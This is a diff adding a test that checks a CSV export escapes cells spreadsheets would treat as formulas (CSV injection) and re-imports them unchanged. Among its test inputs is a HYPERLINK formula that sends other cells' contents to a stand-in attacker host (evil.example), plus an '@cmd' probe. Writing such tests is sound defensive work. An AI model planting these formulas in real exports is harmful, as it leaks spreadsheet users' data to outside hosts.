@@ -135,3 +135,23 @@ describe('CSV export', () => {
     expect(row.fullName).toBe(person.fullName);
   });
 });
+
+describe('CSV injection (OWASP)', () => {
+  it('cells that a spreadsheet would run as formulas are exported with an apostrophe, and import back unchanged', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?leak="&B2&C2,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', 'Plain name'];
+    const csv = ['externalId,name,type,provinceCode,annualCapacity', ...names.map((n, i) => `INJ-${i},"${n.replace(/"/g, '""')}",TRAINING_CENTRE,35,10`)].join('\n');
+    expect(await report(otherEditor, 'INSTITUTIONS', csv)).toMatchObject({ created: names.length, failed: 0 });
+    const exported = String((expectOk(await otherEditor.exec(parse('{ institutionsCsv }') as never, {})) as { institutionsCsv: string }).institutionsCsv);
+    const rows = (parseCsv(exported, { columns: true }) as Record<string, string>[]).filter((r) => r.externalId.startsWith('INJ-'));
+    expect(rows).toHaveLength(names.length);
+    for (const r of rows) {
+      const original = names[Number(r.externalId.slice(4))];
+      expect(r.name, original).toBe(/^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
+      expect(r.name).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // The exported file, imported again, is unchanged: the apostrophes come off.
+    const columns = 'externalId,name,type,provinceCode,annualCapacity';
+    const again = [columns, ...rows.map((r) => [r.externalId, r.name, r.type, r.provinceCode, r.annualCapacity].map((v) => `"${v.replace(/"/g, '""')}"`).join(','))].join('\n');
+    expect(await report(otherEditor, 'INSTITUTIONS', again)).toMatchObject({ unchanged: names.length, updated: 0, failed: 0 });
+  });
+});
